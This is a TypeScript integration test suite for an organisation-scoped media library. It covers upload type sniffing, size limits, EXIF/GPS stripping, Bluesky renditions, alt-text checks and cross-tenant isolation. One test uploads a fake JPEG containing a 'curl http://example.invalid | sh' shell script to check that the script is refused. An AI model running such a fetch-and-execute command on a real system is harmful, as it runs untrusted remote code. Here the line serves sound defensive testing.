import { createHash } from 'node:crypto';
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import sharp from 'sharp';
import { createTestApp, TestApp } from '@parvis/api/testing';
import { IdentityFixtures, TestOrg } from '@parvis/api/identity/testing';
import type TestAgent from 'supertest/lib/agent';
import { PostsModule } from '../src';
import { jpeg, largeJpeg, pngWithGps, tinyMp4 } from './media-files';

const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');
/** Every file under a directory (recursively), temporary ones included. */
const filesUnder = (dir: string): string[] => {
  try {
    return readdirSync(dir, { recursive: true, withFileTypes: true }).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
  } catch {
    return [];
  }
};

/** The media library on PostgreSQL and a real directory: sniffing, re-encoding, renditions, in-use, tenancy. */
describe('media library (real PostgreSQL, real files)', () => {
  const dataDir = mkdtempSync(join(tmpdir(), 'parvis-media-'));
  let t: TestApp;
  let org: TestOrg;
  let other: TestOrg;
  let editor: TestAgent;
  let outsider: TestAgent;
  let channel: string;
  const base = () => `/api/orgs/${org.id}`;
  const orgFiles = () => filesUnder(join(dataDir, 'media', org.id));

  beforeAll(async () => {
    t = await createTestApp([PostsModule], { env: { DATA_DIR: dataDir, MEDIA_MAX_UPLOAD_BYTES: String(12 * 1024 * 1024) } });
    const fixtures = new IdentityFixtures(t.app);
    org = await fixtures.organization('Ville aux images');
    other = await fixtures.organization('Ville voisine');
    editor = await fixtures.agentFor(org.members.editor.email);
    outsider = await fixtures.agentFor(other.members.editor.email);
    const admin = await fixtures.agentFor(org.members.admin.email);
    channel = (await admin.post(`${base()}/channels`).send({ network: 'bluesky', handle: 'images.bsky.social', displayName: 'Images' }).expect(201)).body.id;
  });
  afterAll(async () => {
    await t.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const upload = (bytes: Buffer, name: string, contentType: string, altText?: string) => {
    const request = editor.post(`${base()}/media`).attach('file', bytes, { filename: name, contentType });
    return altText === undefined ? request : request.field('altText', altText);
  };

  it('stores a good image re-encoded, with its dimensions and the hash of the stored bytes, served to members only', async () => {
    const response = await upload(await jpeg(64, 48), 'affiche.jpg', 'image/jpeg', 'Affiche du marché de Noël');
    expect(response.status).toBe(201);
    expect(response.body).toMatchObject({ kind: 'image', mime: 'image/jpeg', width: 64, height: 48, altText: 'Affiche du marché de Noël', fileName: 'affiche.jpg', url: `${base()}/media/${response.body.id}/file` });
    const file = await editor.get(response.body.url).buffer(true).parse((res, done) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => done(null, Buffer.concat(chunks)));
    });
    expect(file.status).toBe(200);
    expect(file.headers['content-type']).toBe('image/jpeg');
    expect(sha256(file.body as Buffer)).toBe(response.body.contentHash);
    expect(response.body.bytes).toBe((file.body as Buffer).length);
    expect((await outsider.get(`/api/orgs/${other.id}/media/${response.body.id}/file`)).status).toBe(404);
    expect((await outsider.get(response.body.url)).status).toBe(404);
  });

  it('accepts an MP4 recognised from its bytes (whatever its name and declared type), stored as it came, its duration read', async () => {
    const bytes = tinyMp4(12_500);
    const response = await upload(bytes, 'clip.bin', 'application/octet-stream', 'Le maire présente ses vœux');
    expect(response.status).toBe(201);
    expect(response.body).toMatchObject({ kind: 'video', mime: 'video/mp4', bytes: bytes.length, contentHash: sha256(bytes), width: null, durationMs: 12_500 });
  });

  it('refuses a file over the size limit with 413', async () => {
    const response = await upload(Buffer.alloc(13 * 1024 * 1024, 1), 'enorme.jpg', 'image/jpeg');
    expect(response.status).toBe(413);
    expect(response.body.code).toBe('PAYLOAD_TOO_LARGE');
  });

  it('refuses a script renamed .jpg (the type comes from the bytes) and a truncated JPEG, leaving nothing behind', async () => {
    const before = orgFiles();
    const script = await upload(Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n'), 'photo.jpg', 'image/jpeg');
    expect(script.status).toBe(400);
    expect(script.body).toMatchObject({ code: 'MEDIA_TYPE_REFUSED', details: [{ field: 'file' }] });
    const whole = await jpeg(400, 300);
    const truncated = await upload(whole.subarray(0, Math.floor(whole.length / 2)), 'coupee.jpg', 'image/jpeg');
    expect(truncated.status).toBe(400);
    expect(truncated.body.code).toBe('MEDIA_TYPE_REFUSED');
    expect(orgFiles()).toEqual(before);
    expect((await editor.get(`${base()}/media`).expect(200)).body.items.map((m: { fileName: string }) => m.fileName)).not.toContain('coupee.jpg');
  });

  it('strips the EXIF of a PNG carrying GPS coordinates', async () => {
    const input = await pngWithGps();
    const exif = (await sharp(input).metadata()).exif;
    // The input really carries a GPS IFD (tag 0x8825), whatever the byte order.
    expect(exif && (exif.includes(Buffer.from([0x88, 0x25])) || exif.includes(Buffer.from([0x25, 0x88])))).toBe(true);
    const response = await upload(input, 'toit.png', 'image/png');
    expect(response.status).toBe(201);
    const stored = orgFiles().find((path) => path.includes(response.body.id));
    expect(stored).toBeDefined();
    const metadata = await sharp(stored as string).metadata();
    expect(metadata.format).toBe('png');
    expect(metadata.exif).toBeUndefined();
  });

  it('makes a Bluesky rendition under 2 MB of a larger image', async () => {
    const big = await largeJpeg();
    expect(big.length).toBeGreaterThan(2_000_000);
    const response = await upload(big, 'panorama.jpg', 'image/jpeg', 'Vue de la place');
    expect(response.status).toBe(201);
    const rendition = response.body.renditions.find((r: { network: string }) => r.network === 'bluesky');
    expect(rendition.bytes).toBeLessThanOrEqual(2_000_000);
    expect(rendition.mime).toBe('image/jpeg');
  });

  it('refuses an image without alt text at submission, and the deletion of a media a post uses (409 naming the post)', async () => {
    const media = (await upload(await jpeg(), 'sans-alt.jpg', 'image/jpeg').expect(201)).body;
    const post = (await editor.post(`${base()}/posts`).send({ masterText: 'Le marché ouvre samedi.', channelIds: [channel] }).expect(201)).body;
    const withMedia = await editor.patch(`${base()}/posts/${post.id}`).send({ variants: [{ channelId: channel, media: [{ mediaId: media.id }] }] });
    expect(withMedia.status).toBe(200);
    const check = await editor.post(`${base()}/posts/${post.id}/submission-check`);
    expect(check.status).toBe(400);
    expect(check.body.details.violations).toEqual([expect.objectContaining({ channelId: channel, code: 'image_alt_missing', severity: 'error', target: { field: 'media', index: 0 } })]);
    await editor.patch(`${base()}/posts/${post.id}`).send({ variants: [{ channelId: channel, media: [{ mediaId: media.id, altText: 'Les chalets illuminés du marché' }] }] }).expect(200);
    expect((await editor.post(`${base()}/posts/${post.id}/submission-check`)).status).toBe(200);

    const refused = await editor.delete(`${base()}/media/${media.id}`);
    expect(refused.status).toBe(409);
    expect(refused.body).toMatchObject({ code: 'MEDIA_IN_USE', details: { posts: [{ id: post.id, title: 'Le marché ouvre samedi.' }] } });
    await editor.patch(`${base()}/posts/${post.id}`).send({ variants: [{ channelId: channel, media: [] }] }).expect(200);
    await editor.delete(`${base()}/media/${media.id}`).expect(204);
    expect(orgFiles().some((path) => path.includes(media.id))).toBe(false);
  });

  it("refuses another organisation's media in a variant, naming the field", async () => {
    const foreign = (await outsider.post(`/api/orgs/${other.id}/media`).attach('file', await jpeg(), { filename: 'x.jpg', contentType: 'image/jpeg' }).expect(201)).body;
    const post = (await editor.post(`${base()}/posts`).send({ masterText: 'Texte', channelIds: [channel] }).expect(201)).body;
    const response = await editor.patch(`${base()}/posts/${post.id}`).send({ variants: [{ channelId: channel, media: [{ mediaId: foreign.id }] }] });
    expect(response.status).toBe(400);
    expect(response.body.details[0].field).toBe('variants.0.media.0.mediaId');
    expect((await editor.get(`${base()}/media/${foreign.id}`)).status).toBe(404);
  });
});
